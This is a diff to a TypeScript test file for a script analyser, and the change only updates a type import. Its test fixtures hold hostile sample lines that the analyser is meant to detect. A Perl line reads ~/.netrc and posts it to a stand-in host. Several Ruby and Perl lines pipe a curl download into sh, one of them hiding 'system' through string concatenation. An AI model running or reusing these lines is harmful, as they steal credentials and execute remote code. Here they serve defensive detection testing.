@@ -1,11 +1,12 @@
 import { describe, expect, test } from 'vitest';
 import { scriptAnalyser } from '../../src/scripts/script-analyser.js';
-import type { ScriptLanguage } from '../../src/scripts/syntax.js';
+import type { SCRIPT_LANGUAGES } from '../../src/scripts/syntax.js';
 import { factsOf } from '../manifests/support.js';
 import { makeUnit, NO_HURRY } from '../support/make-unit.js';
 
-const read = (language: ScriptLanguage, text: string) => scriptAnalyser.analyse([makeUnit(language, text)], NO_HURRY);
-const executes = (language: ScriptLanguage, text: string) =>
+const read = (language: (typeof SCRIPT_LANGUAGES)[number], text: string) =>
+  scriptAnalyser.analyse([makeUnit(language, text)], NO_HURRY);
+const executes = (language: (typeof SCRIPT_LANGUAGES)[number], text: string) =>
   factsOf(read(language, text), 'execute').map(({ origin }) => origin);
 
 describe('what somebody sends is run', () => {
@@ -37,7 +38,7 @@ describe('what somebody sends is run', () => {
 });
 
 describe('a secret is written to a connection', () => {
-  test.each<[ScriptLanguage, string]>([
+  test.each<[(typeof SCRIPT_LANGUAGES)[number], string]>([
     [
       'perl',
       'open my $f, "<", "$ENV{HOME}/.netrc"; my $d = <$f>; my $s = IO::Socket::INET->new("c.example.invalid:80"); print $s "POST / $d";',
@@ -56,7 +57,7 @@ describe('a secret is written to a connection', () => {
   });
 });
 
-test.each<[ScriptLanguage, string, string]>([
+test.each<[(typeof SCRIPT_LANGUAGES)[number], string, string]>([
   ['ruby', "Kernel.send('sys' + 'tem', 'curl -s https://c.example.invalid | sh')", 'curl -s'],
   ['ruby', '%x(curl -s https://c.example.invalid | sh)', 'curl -s'],
   ['perl', 'my $o = qx{curl -s https://c.example.invalid | sh};', 'curl -s'],
